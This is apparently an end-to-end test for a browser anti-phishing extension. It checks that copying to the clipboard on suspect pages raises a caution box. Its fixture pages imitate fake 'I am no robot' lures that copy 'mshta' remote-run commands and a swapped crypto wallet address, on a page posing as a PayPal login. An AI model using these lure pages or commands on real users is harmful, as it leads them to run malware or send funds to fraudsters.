/**
 * What a page puts into the clipboard: on a page that is suspect, or that the person went on to, a command and a wallet
 * are said; on no other page is anything listened to or said. Over https, where a page has the clipboard to itself.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BROWSERS, type Tab } from '../support/browsers/types.ts';
import { continueAnyway, PATIENT, waitForWarning } from '../support/steps.ts';
import { World } from '../support/world.ts';

const WALLET = '0x52908400098527886E0F7030069857D2E4169EE7';
/** Longer than a word of what was copied takes to come. */
const QUIET_MS = 2_000;

// No names that a document has too: a handler in the page's source finds those first.
const SCRIPT = `
  const first = [Clipboard.prototype.writeText, DataTransfer.prototype.setData];
  const byField = (text) => {
    const area = Object.assign(document.createElement('textarea'), { value: text });
    document.body.append(area); area.select(); document.execCommand('copy'); area.remove(); };
  const byWrite = (text) => navigator.clipboard.writeText(text);
  const byItem = (text) => navigator.clipboard.write(
    [new ClipboardItem({ 'text/plain': new Blob([text], { type: 'text/plain' }) })]);
  const byEvent = (text) => {
    addEventListener('copy', (copy) => { copy.clipboardData.setData('text/plain', text); copy.preventDefault();
      copy.stopImmediatePropagation(); }, { once: true, capture: true });
    document.execCommand('copy'); };`;

/** By button: what a press of it copies. */
const COPIES = {
  written: "byWrite('mshta https://site.example/written')",
  item: "byItem('mshta https://site.example/item')",
  field: "byField('mshta https://site.example/field')",
  event: "byEvent('mshta https://site.example/event')",
  wallet: `byWrite('${WALLET}')`,
} as const;
const WAYS = [...(Object.keys(COPIES) as (keyof typeof COPIES)[]), 'frame', 'late'] as const;

const button = (id: string, does: string) => `<button id="${id}" onclick="${does}">I am no robot</button>`;
const head = (title: string) =>
  `<!doctype html><meta charset="utf-8"><title>${title}</title><script>${SCRIPT}</script>`;

/** A page with a button for each way, and a frame of another site that is a button as a whole. */
const page = (title: string, heading: string) => ({
  body: `${head(title)}<body style="padding: 20rem 0 6rem"><h1>${heading}</h1>
    <form><input type="password" name="pw"></form>
    ${button('plain', "byWrite('Order 4711')")} ${Object.entries(COPIES)
      .map(([id, does]) => button(id, does))
      .join(' ')}
    <p><iframe id="frame" src="https://robot-box.test/" allow="clipboard-write" width="200" height="60"></iframe></p>
    <input id="last"></body>`,
});

/** For the page: the frame goes, and one like it comes. */
function anotherFrame(): Promise<unknown> {
  const before = document.querySelector<HTMLIFrameElement>('#frame')!;
  const frame = before.cloneNode() as HTMLIFrameElement;
  frame.id = 'late';
  const there = new Promise((resolve) => frame.addEventListener('load', () => resolve(null)));
  before.replaceWith(frame);
  return there;
}

describe.each(BROWSERS)('what a page copies (%s)', (name) => {
  let world: World;
  let tab: Tab;

  beforeAll(async () => {
    world = await World.open(name, { entries: { 'listed-fraud.test': 'phishing' } });
    const { sites } = world;
    for (const host of ['listed-fraud.test', 'willow-harbor.test'])
      sites.route(host, '/', page('PayPal: Log in', 'PayPal'));
    sites.route('stone-bridge.test', '/', page('Stone Bridge Forum', 'Sign in'));
    sites.route('robot-box.test', '/', {
      body: `${head('Box')}<style>body { margin: 0 } button { width: 100vw; height: 100vh }</style>
        <body>${button('in-frame', "byWrite('mshta https://site.example/frame')")}</body>`,
    });
    tab = await world.browser.newTab();
  });
  afterAll(() => world?.close());

  /** How many boxes of Sansi's stand in the page that did not before. */
  const boxes = () =>
    tab.evaluate(() => document.querySelectorAll('[data-sansi="caution"]:not([data-before])').length);

  async function eachWayIsSaid(): Promise<void> {
    await tab.evaluate(() => {
      for (const box of document.querySelectorAll('[data-sansi="caution"]'))
        box.setAttribute('data-before', '');
    });
    expect(await tab.evaluate(() => isSecureContext)).toBe(true);
    await tab.click('#plain');
    for (const way of WAYS) {
      expect([way, await boxes()]).toEqual([way, 0]);
      if (way === 'late') await tab.evaluate(anotherFrame);
      await tab.click(`#${way}`);
      // A frame is heard a moment after it has come, and hears a press a moment after the box over it has gone.
      const said = async () => {
        if ((way === 'frame' || way === 'late') && (await boxes()) === 0) await tab.click(`#${way}`);
        return [way, await boxes()];
      };
      await expect.poll(said, PATIENT).toEqual([way, 1]);
      await tab.evaluate(() => document.querySelector('[data-sansi="caution"]:not([data-before])')!.remove());
    }
  }

  it('is said in every way on a page that the person went on to', async () => {
    await tab.goto('https://listed-fraud.test/');
    await waitForWarning(world.browser, tab);
    await continueAnyway(tab);
    await tab.waitForUrl('https://listed-fraud.test/');
    await tab.waitFor('[data-sansi="continued"]');
    await eachWayIsSaid();
  });

  it('is said in every way on a page that is suspect', async () => {
    await tab.goto('https://willow-harbor.test/');
    await tab.waitFor('[data-sansi="caution"]');
    await eachWayIsSaid();
  });

  it('is nobody’s business on any other page', async () => {
    await tab.goto('https://stone-bridge.test/');
    for (const way of WAYS) if (way !== 'late') await tab.click(`#${way}`);
    await new Promise((resolve) => setTimeout(resolve, QUIET_MS));
    expect(await boxes()).toBe(0);
    // The functions that write are those that the page began with, and so are its frame's.
    const own = () =>
      new Function(
        'return first[0] === Clipboard.prototype.writeText && first[1] === DataTransfer.prototype.setData',
      )();
    expect(await tab.evaluate(own)).toBe(true);
    expect(await tab.evaluateInFrame('robot-box.test', own)).toBe(true);
  });
});
